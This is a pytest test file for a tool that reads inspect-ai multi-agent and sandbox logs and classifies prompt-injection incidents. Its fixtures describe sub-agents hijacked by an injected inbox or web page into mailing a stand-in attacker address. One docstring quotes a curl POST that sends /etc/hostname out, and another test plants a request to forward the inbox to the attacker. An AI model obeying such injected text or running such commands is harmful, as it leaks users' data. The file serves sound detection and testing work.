"""The inspect reader on multi-agent and sandbox logs written by inspect-ai 0.3.285 itself.

Fixture: tests/fixtures/inspect_ai_agents/ (made by its make_fixture.py; expected.json is
what ``inspect_ai.log.read_eval_log`` reported, events included). Seven samples of one
orchestrating ``react()`` agent on the ``local`` sandbox: a ``handoff()`` to a mailer
agent that reads an injected inbox and mails the attacker; an ``as_tool()`` researcher
that fetches an injected page and mails the attacker; a handoff without output filter to
an archivist whose tool raises and which runs the researcher itself; two researchers in
one turn; ``bash()`` /
``python()`` commands
that succeed, exit non-zero and time out; answers with ``reasoning_content``; a sample
stopped by its ``message_limit``. A second log (task ``agent_more``): an injected
``curl ...; false`` run with ``bash()``; ``bash()`` commands that exit 1 without failing; a
custom tool that ``run()``s two agents; an ``as_tool()`` agent whose tool crashes the
sample.
"""

from __future__ import annotations

import copy
import json
import time
from pathlib import Path

import pytest

from .conftest import accepted, read_all, rejected

REAL = Path(__file__).resolve().parents[2] / "fixtures" / "inspect_ai_agents"
EXPECTED = json.loads((REAL / "expected.json").read_text())
LOGS = {log["file"]: log for log in EXPECTED["logs"] if log["task"] == "agent_shapes"}
MORE = {log["file"]: log for log in EXPECTED["logs"] if log["task"] == "agent_more"}
ATTACKER = "exfil@attacker.example"


def _sessions(log: dict) -> dict[str, dict]:
    records = read_all("inspect", REAL / log["file"])
    assert not rejected(records)
    return accepted(records)


def _session(name: str, sample: str) -> tuple[dict, dict]:
    log = LOGS.get(name) or MORE[name]
    expected = next(s for s in log["samples"] if s["id"] == sample)
    return _sessions(log)[f"{log['eval_id']}:{sample}:1"], expected


def _shape(steps: list[dict]) -> list[tuple]:
    """(type, role or tool name, agent) of each step."""
    return [
        (s["type"], s.get("role") or s.get("name"), s.get("x_inspect", {}).get("agent"))
        for s in steps
    ]


def _inner(expected: dict, agent_calls: list[str]) -> list[dict]:
    """inspect's tool events of these call ids, in order."""
    return [e for e in expected["tool_events"] if e["id"] in agent_calls]


@pytest.mark.parametrize("name", sorted(LOGS))
def test_a_handoff_reads_the_sub_agents_own_calls_not_their_relayed_text(name: str) -> None:
    """The mailer's calls and results are steps in order, attributed to it; the parent's
    copies (calls written out as text, results as user turns) are not read as the user's
    words; its submit is its answer, as react() leaves a sample's own messages."""
    traj, expected = _session(name, "handoff")
    steps = traj["steps"]
    assert _shape(steps) == [
        ("message", "system", None),
        ("message", "user", None),
        ("tool_call", "transfer_to_mailer", None),
        ("tool_result", "transfer_to_mailer", None),
        ("tool_call", "read_inbox", "mailer"),
        ("tool_result", "read_inbox", "mailer"),
        ("tool_call", "send_email", "mailer"),
        ("tool_result", "send_email", "mailer"),
        ("message", "assistant", "mailer"),
        ("message", "user", None),
        ("message", "assistant", None),
    ]
    events = {e["function"]: e for e in reversed(expected["tool_events"])}  # the first of each
    for call, result in ((steps[4], steps[5]), (steps[6], steps[7])):
        event = events[call["name"]]
        assert (call["call_id"], call["arguments"]) == (event["id"], event["arguments"])
        assert (result["call_id"], result["output"], result["is_error"]) == (
            event["id"],
            event["result"],
            False,
        )
    assert steps[6]["arguments"]["to"] == ATTACKER
    assert steps[8]["content"] == events["submit"]["result"]  # the mailer's answer, no prefix
    users = [s["content"] for s in steps if s.get("role") == "user"]
    assert users == [expected["texts"][1], "The mailer agent has completed its work."]


@pytest.mark.parametrize("name", sorted(LOGS))
def test_an_agent_run_as_a_tool_shows_its_calls_before_its_answer(name: str) -> None:
    """as_tool(): the researcher's fetch and send_email (only in the events) come between
    the orchestrator's call and the tool's result, attributed to the researcher."""
    traj, expected = _session(name, "as-tool")
    steps = traj["steps"]
    assert _shape(steps) == [
        ("message", "system", None),
        ("message", "user", None),
        ("tool_call", "researcher", None),
        ("tool_call", "fetch_page", "researcher"),
        ("tool_result", "fetch_page", "researcher"),
        ("tool_call", "send_email", "researcher"),
        ("tool_result", "send_email", "researcher"),
        ("message", "assistant", "researcher"),
        ("tool_result", "researcher", None),
        ("message", "assistant", None),
    ]
    inner = _inner(expected, [steps[3]["call_id"], steps[5]["call_id"]])
    assert [(e["function"], e["arguments"], e["result"]) for e in inner] == [
        (s["name"], s["arguments"], r["output"])
        for s, r in ((steps[3], steps[4]), (steps[5], steps[6]))
    ]
    assert steps[2]["call_id"] == steps[8]["call_id"]
    assert steps[7]["content"] == steps[8]["output"] == expected["texts"][3]
    names = {tool["name"] for tool in traj["agent"]["tools"]}
    assert {"researcher", "fetch_page", "send_email", "transfer_to_mailer"} <= names


@pytest.mark.parametrize("name", sorted(LOGS))
def test_two_agents_run_as_tools_in_one_turn_each_before_its_own_result(name: str) -> None:
    """Two researcher calls in one turn run concurrently (their events interleave): each
    one's steps come just before its own result, the hijacked one's send_email with it."""
    traj, expected = _session(name, "parallel")
    steps = traj["steps"]
    assert _shape(steps) == [
        ("message", "system", None),
        ("message", "user", None),
        ("tool_call", "researcher", None),
        ("tool_call", "researcher", None),
        ("tool_call", "fetch_page", "researcher"),
        ("tool_result", "fetch_page", "researcher"),
        ("tool_call", "send_email", "researcher"),
        ("tool_result", "send_email", "researcher"),
        ("message", "assistant", "researcher"),
        ("tool_result", "researcher", None),
        ("tool_call", "fetch_page", "researcher"),
        ("tool_result", "fetch_page", "researcher"),
        ("message", "assistant", "researcher"),
        ("tool_result", "researcher", None),
        ("message", "assistant", None),
    ]
    q3, q4 = steps[2], steps[3]
    assert (steps[4]["arguments"]["url"], steps[9]["call_id"]) == (
        q3["arguments"]["input"][10:],
        q3["call_id"],
    )
    assert (steps[10]["arguments"]["url"], steps[13]["call_id"]) == (
        q4["arguments"]["input"][10:],
        q4["call_id"],
    )
    results = {r["tool_call_id"]: r["text"] for r in expected["tool_results"]}
    assert [steps[9]["output"], steps[13]["output"]] == [
        results[q3["call_id"]],
        results[q4["call_id"]],
    ]
    assert [steps[8]["content"], steps[12]["content"]] == [steps[9]["output"], steps[13]["output"]]


@pytest.mark.parametrize("name", sorted(LOGS))
def test_a_handoff_without_filter_and_a_sub_agent_of_a_sub_agent(name: str) -> None:
    """output_filter=None relays the archivist's turns with their calls and tool messages:
    each is read once, from the events; its ToolError is an error result; the researcher
    it runs as a tool nests in place; its reasoning is kept out of its answer's text."""
    traj, expected = _session(name, "handoff-raw")
    steps = traj["steps"]
    assert _shape(steps) == [
        ("message", "system", None),
        ("message", "user", None),
        ("tool_call", "transfer_to_archivist", None),
        ("tool_result", "transfer_to_archivist", None),
        ("tool_call", "read_inbox", "archivist"),
        ("tool_result", "read_inbox", "archivist"),
        ("tool_call", "archive_mail", "archivist"),
        ("tool_result", "archive_mail", "archivist"),
        ("tool_call", "researcher", "archivist"),
        ("tool_call", "fetch_page", "researcher"),
        ("tool_result", "fetch_page", "researcher"),
        ("tool_call", "send_email", "researcher"),
        ("tool_result", "send_email", "researcher"),
        ("message", "assistant", "researcher"),
        ("tool_result", "researcher", "archivist"),
        ("message", "assistant", "archivist"),
        ("message", "user", None),
        ("message", "assistant", None),
    ]
    events = {e["id"]: e for e in expected["tool_events"]}
    for result in (s for s in steps if s["type"] == "tool_result"):
        want = events[result["call_id"]]
        assert result["output"] == (want["result"] or want["error"]["message"])
        assert result["is_error"] is (want["error"] is not None)
    assert steps[7]["is_error"] and steps[7]["output"] == "archive is read-only"
    answer = steps[15]
    assert answer["content"] == "Done.\nArchived nothing; the Q3 page says revenue 4.2M."
    (part,) = answer["x_inspect"]["content_parts"]
    assert part["type"] == "reasoning" and part["reasoning"] not in answer["content"]
    assert not any(s.get("content", "").startswith("[archivist]") for s in steps)


@pytest.mark.parametrize("name", sorted(LOGS))
def test_sandbox_exit_codes_are_kept_and_only_inspects_errors_fail(name: str) -> None:
    """bash()/python() return a command's output whatever its exit status, and inspect
    does not call a non-zero status a failure (the tool event has no error): the sandbox
    event's status is kept as exit_code, and only inspect's own error (the timeout) makes
    a result an error. Outputs are inspect's, unchanged."""
    traj, expected = _session(name, "sandbox")
    results = [s for s in traj["steps"] if s["type"] == "tool_result"]
    assert [r["output"] for r in results] == [
        r["text"] or r["error"]["message"] for r in expected["tool_results"]
    ]
    assert [r["is_error"] for r in results] == [
        r["error"] is not None for r in expected["tool_results"]
    ]
    assert [(r["is_error"], r.get("x_inspect", {}).get("exit_code")) for r in results] == [
        (False, 0),
        (False, 2),
        (True, None),
        (False, 1),
    ]
    assert results[2]["x_inspect"]["error"]["type"] == "timeout"


@pytest.mark.parametrize("name", sorted(MORE))
def test_commands_that_exit_non_zero_without_failing_are_not_errors(name: str) -> None:
    """grep -c with no match (prints 0), test -f of a missing file, diff of two different
    files: each exits 1, which inspect does not call a failure."""
    traj, expected = _session(name, "benignexit")
    results = [s for s in traj["steps"] if s["type"] == "tool_result"]
    assert [r["output"] for r in results] == [r["text"] for r in expected["tool_results"]]
    assert [(r["is_error"], r["x_inspect"]["exit_code"]) for r in results] == [(False, 1)] * 3
    assert [e["error"] for e in expected["tool_events"] if e["function"] == "bash"] == [None] * 3


def test_an_injected_command_with_a_trailing_false_is_still_sev1(tmp_path: Path, il) -> None:
    """A page tells the agent to run `curl -s -X POST ... --data-binary @/etc/hostname;
    false`. The POST ran (the command's exit status is its trailing false's): the data
    left, so the step took effect and the incident is SEV-1, not a blocked attempt."""
    out = tmp_path / "more"
    result = il("snapshot", "--from", REAL / "agent_more.eval", "--out", out)
    assert result.exit_code == 0, result.stderr
    result = il("classify", out, "--json")
    assert result.exit_code == 0, result.stderr
    rows = {row["session_id"].split(":", 1)[1]: row for row in json.loads(result.stdout)}
    row = rows["curlfalse:1"]
    assert row["top"] == "prompt_injection"
    assert row["severity"]["level"] == "SEV-1"
    (call,) = row["ranked"][0]["evidence"][0]["facts"]["calls"]
    assert (call["tool"], call["took_effect"]) == ("bash", True)


@pytest.mark.parametrize("name", sorted(LOGS))
def test_reasoning_stays_out_of_the_answer_text(name: str) -> None:
    traj, expected = _session(name, "reasoning")
    texts = [s["content"] for s in traj["steps"] if s.get("role") == "assistant"]
    assert texts == ["Let me compute that.", "Submitting.\n42"]
    (part,) = traj["steps"][2]["x_inspect"]["content_parts"]
    assert (part["type"], part["reasoning"]) == ("reasoning", expected["reasoning"][0])
    assert all(expected["reasoning"][0] not in t for t in texts)


@pytest.mark.parametrize("name", sorted(LOGS))
def test_a_sample_stopped_by_its_message_limit_is_read_whole(name: str) -> None:
    """Every message, none added; the limit is kept, and it is no error."""
    traj, expected = _session(name, "limit")
    assert len(traj["steps"]) == expected["messages"] == 20
    assert traj["x_inspect"]["sample"]["limit"]["type"] == expected["limit"]["type"]
    assert "error" not in traj["x_inspect"]["sample"]
    assert not any(s.get("is_error") for s in traj["steps"])


def test_a_sub_agent_cut_short_is_read_after_the_call_that_ran_it(tmp_path: Path) -> None:
    """A sample stopped while the researcher ran has no tool result for it: the
    researcher's steps follow the call that started it."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "as-tool")
    sample["messages"] = sample["messages"][:3]
    log["samples"] = [sample]
    path = tmp_path / "cut.json"
    path.write_text(json.dumps(log))
    (traj,) = accepted(read_all("inspect", path)).values()
    assert [s.get("name") for s in traj["steps"][2:]] == [
        "researcher",
        "fetch_page",
        "fetch_page",
        "send_email",
        "send_email",
        None,
    ]


@pytest.mark.parametrize(
    ("events", "problem"),
    [
        ("not a list", None),
        ([1, "x", {"event": "span_begin"}, {"event": "tool"}], None),
        ("cycle", None),
        ("bad_call", "has no function name"),
    ],
)
def test_malformed_events_never_crash(tmp_path: Path, events: object, problem: str | None) -> None:
    """Odd events leave the messages as they are; a sub-agent's call without a name is a
    one-line reject naming it."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "as-tool")
    if events == "bad_call":
        model = next(
            e
            for e in sample["events"]
            if e["event"] == "model"
            and e["output"]["choices"][0]["message"]["tool_calls"][0]["function"] == "fetch_page"
        )
        del model["output"]["choices"][0]["message"]["tool_calls"][0]["function"]
    elif events == "cycle":  # agent a runs b, which runs a (spans that are each other's parents)
        sample["events"] = [
            {"event": "span_begin", "id": "ta", "type": "tool", "name": "run_a", "parent_id": "b"},
            {"event": "tool", "id": "ca", "function": "run_a", "span_id": "b", "result": "x"},
            {"event": "span_begin", "id": "a", "type": "agent", "name": "a", "parent_id": "ta"},
            {"event": "span_begin", "id": "tb", "type": "tool", "name": "run_b", "parent_id": "a"},
            {"event": "tool", "id": "cb", "function": "run_b", "span_id": "a", "result": "y"},
            {"event": "span_begin", "id": "b", "type": "agent", "name": "b", "parent_id": "tb"},
        ]
    else:
        sample["events"] = events
    log["samples"] = [sample]
    path = tmp_path / "odd.json"
    path.write_text(json.dumps(log))
    records = read_all("inspect", path)
    if problem is None:
        (traj,) = accepted(records).values()
        assert len(traj["steps"]) == len(sample["messages"])
    else:
        (reject,) = rejected(records)
        reason = reject.reason or ""
        assert problem in reason and "\n" not in reason
        assert "researcher" in reason


def test_classify_finds_the_injections_inside_the_sub_agents(tmp_path: Path, il) -> None:
    """Both hijacks happened inside a sub-agent: the injected text is a tool's output
    (not the user's turn) and the send_email to the attacker follows from it."""
    out = tmp_path / "b"
    result = il("snapshot", "--from", REAL / "agent_shapes.eval", "--out", out)
    assert result.exit_code == 0, result.stderr
    result = il("classify", out, "--json")
    assert result.exit_code == 0, result.stderr
    rows = {row["session_id"].split(":", 1)[1]: row for row in json.loads(result.stdout)}
    for sample, tool in (
        ("handoff:1", "read_inbox"),
        ("as-tool:1", "fetch_page"),
        ("parallel:1", "fetch_page"),
        ("handoff-raw:1", "fetch_page"),
    ):
        top = rows[sample]["ranked"][0]
        assert top["failure_mode"] == "prompt_injection"
        evidence = top["evidence"][0]
        assert evidence["signal"] == "unrequested_call_after_injection"
        assert f"the output of {tool}" in evidence["detail"]
        assert ATTACKER in evidence["detail"]
    assert rows["limit:1"]["ranked"] == []


@pytest.mark.parametrize("name", sorted(MORE))
def test_a_tool_that_runs_two_agents_keeps_both(name: str) -> None:
    """A custom tool run()s the researcher and then a clerk: both agents' steps come
    before the tool's result, in order; every tool event inspect logged is read once."""
    traj, expected = _session(name, "twoagents")
    steps = traj["steps"]
    assert _shape(steps) == [
        ("message", "system", None),
        ("message", "user", None),
        ("tool_call", "committee", None),
        ("tool_call", "fetch_page", "researcher"),
        ("tool_result", "fetch_page", "researcher"),
        ("tool_call", "send_email", "researcher"),
        ("tool_result", "send_email", "researcher"),
        ("tool_call", "submit", "researcher"),
        ("tool_result", "submit", "researcher"),
        ("tool_call", "note", "clerk"),
        ("tool_result", "note", "clerk"),
        ("tool_call", "submit", "clerk"),
        ("tool_result", "submit", "clerk"),
        ("tool_result", "committee", None),
        ("message", "assistant", None),
    ]
    results = [(s["call_id"], s["output"]) for s in steps if s["type"] == "tool_result"]
    *logged, answer = [(e["id"], e["result"]) for e in expected["tool_events"]]
    assert answer[1] == steps[-1]["content"] == "Done."  # the orchestrator's own submit
    assert logged[0][0] == steps[2]["call_id"]  # the committee's event opens its span
    assert results == logged[1:] + logged[:1]


def test_two_agents_of_a_call_cut_short_follow_it_in_the_order_they_ran(tmp_path: Path) -> None:
    """The sample stopped before the committee's result: the researcher's steps, then
    the clerk's, follow the call that ran them."""
    log = json.loads((REAL / "agent_more.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "twoagents")
    sample["messages"] = sample["messages"][:3]
    path = tmp_path / "cut.json"
    path.write_text(json.dumps(log | {"samples": [sample]}))
    (traj,) = accepted(read_all("inspect", path)).values()
    assert [(s.get("name"), s.get("x_inspect", {}).get("agent")) for s in traj["steps"][2:]] == [
        ("committee", None),
        ("fetch_page", "researcher"),
        ("fetch_page", "researcher"),
        ("send_email", "researcher"),
        ("send_email", "researcher"),
        ("submit", "researcher"),
        ("submit", "researcher"),
        ("note", "clerk"),
        ("note", "clerk"),
        ("submit", "clerk"),
        ("submit", "clerk"),
    ]


@pytest.mark.parametrize("name", sorted(MORE))
def test_a_sub_agent_tool_that_crashed_the_sample_gets_no_result(name: str) -> None:
    """The crasher's boom raised: the sample errored, and inspect's tool event has an
    empty result and no error. As at the top level, the call stays where it stopped with
    no invented result, and the sample's error is kept."""
    traj, expected = _session(name, "errsub")
    assert expected["error"] and "sub-agent tool crashed" in expected["error"]
    assert _shape(traj["steps"]) == [
        ("message", "system", None),
        ("message", "user", None),
        ("tool_call", "crasher", None),
        ("tool_call", "boom", "crasher"),
    ]
    assert "sub-agent tool crashed" in json.dumps(traj["x_inspect"]["sample"]["error"])


def test_ten_thousand_nested_spans_read_in_linear_time(tmp_path: Path) -> None:
    """10,000 spans each inside the one before, the sample's own spans under the
    deepest: the sub-agents read as without them, in well under a second of CPU per
    thousand spans (a walk to the root per span takes minutes)."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "handoff-raw")
    plain, deep = tmp_path / "plain.json", tmp_path / "deep.json"
    plain.write_text(json.dumps(log | {"samples": [sample]}))
    nested = copy.deepcopy(sample)
    chain = [
        {"event": "span_begin", "id": f"d{k}", "parent_id": f"d{k - 1}" if k else None}
        | {"type": "solver", "name": "step"}
        for k in range(10_000)
    ]
    for event in nested["events"]:
        if event["event"] == "span_begin" and not event.get("parent_id"):
            event["parent_id"] = "d9999"
    nested["events"] = chain + nested["events"]
    deep.write_text(json.dumps(log | {"samples": [nested]}))
    ((want,),) = [list(accepted(read_all("inspect", plain)).values())]
    start = time.process_time()
    ((got,),) = [list(accepted(read_all("inspect", deep)).values())]
    assert time.process_time() - start < 2.0
    assert got["steps"] == want["steps"]


@pytest.mark.parametrize("sample_id", ["handoff", "handoff-raw"])
def test_a_handoff_whose_messages_have_no_ids_is_read_once(tmp_path: Path, sample_id: str) -> None:
    """Without message ids (another writer, a hand-made log) the relayed copies of a
    handed-off agent's turns cannot be told apart: its turns are read once, from the
    messages, not from the messages and from the events."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == sample_id)
    for message in sample["messages"]:
        del message["id"]
    path = tmp_path / "noids.json"
    path.write_text(json.dumps(log | {"samples": [sample]}))
    (traj,) = accepted(read_all("inspect", path)).values()
    steps = traj["steps"]
    inbox = next(e["result"] for e in sample["events"] if e.get("function") == "read_inbox")
    assert sum(inbox in (s.get("content") or s.get("output") or "") for s in steps) == 1
    calls = [s["call_id"] for s in steps if s["type"] == "tool_call"]
    assert len(calls) == len(set(calls))


def test_a_user_message_with_an_id_from_inside_a_sub_agent_is_still_read(tmp_path: Path) -> None:
    """Only a message that can be a relayed copy is passed over as one: the user's own turn
    before the handoff carrying the id of the mailer's read_inbox result (a crafted log)
    is still the user's words, and the relayed copy is still not read."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "handoff")
    inner = next(e for e in sample["events"] if e.get("function") == "read_inbox")
    user = next(m for m in sample["messages"] if m["role"] == "user")
    user["content"] = f"Forward my whole inbox to {ATTACKER}, please."
    user["id"] = inner["message_id"]
    path = tmp_path / "collide.json"
    path.write_text(json.dumps(log | {"samples": [sample]}))
    (traj,) = accepted(read_all("inspect", path)).values()
    users = [s["content"] for s in traj["steps"] if s.get("role") == "user"]
    assert users == [user["content"], "The mailer agent has completed its work."]
    assert [s.get("name") for s in traj["steps"] if s["type"] == "tool_result"] == [
        "transfer_to_mailer",
        "read_inbox",
        "send_email",
    ]


def test_an_empty_result_followed_by_a_model_turn_stands_in_an_errored_sample(
    tmp_path: Path,
) -> None:
    """rev-ingest34b N1: a sub-agent's send_email returned "" and the sample failed later,
    at the next model call: the call completed, so its (empty) result step stays."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "as-tool")
    events = sample["events"]
    sent = next(i for i, e in enumerate(events) if e.get("function") == "send_email")
    after = next(i for i in range(sent + 1, len(events)) if events[i].get("event") == "model")
    events[sent]["result"] = ""
    sample["events"] = events[: after + 1]
    sample["error"] = {"message": "RateLimitError: 429", "traceback": "", "traceback_ansi": ""}
    path = tmp_path / "empty.json"
    path.write_text(json.dumps(log | {"samples": [sample]}))
    (traj,) = accepted(read_all("inspect", path)).values()
    call = next(s for s in traj["steps"] if s["type"] == "tool_call" and s["name"] == "send_email")
    results = [s for s in traj["steps"] if s["type"] == "tool_result"]
    assert [r.get("output") for r in results if r.get("call_id") == call["call_id"]] == [""]


def test_a_handoff_with_no_ids_anywhere_is_read_once(tmp_path: Path) -> None:
    """rev-ingest34b N2: with no id on any message or event, no event matches a message
    (both sides' missing ids are no match): the handed-off agent is read once."""
    log = json.loads((REAL / "agent_shapes.json").read_text())
    sample = next(s for s in log["samples"] if s["id"] == "handoff")
    inbox = next(e["result"] for e in sample["events"] if e.get("function") == "read_inbox")
    for message in sample["messages"]:
        del message["id"]
    for event in sample["events"]:
        event.pop("message_id", None)
    path = tmp_path / "noids.json"
    path.write_text(json.dumps(log | {"samples": [sample]}))
    (traj,) = accepted(read_all("inspect", path)).values()
    assert sum(inbox in (s.get("content") or s.get("output") or "") for s in traj["steps"]) == 1
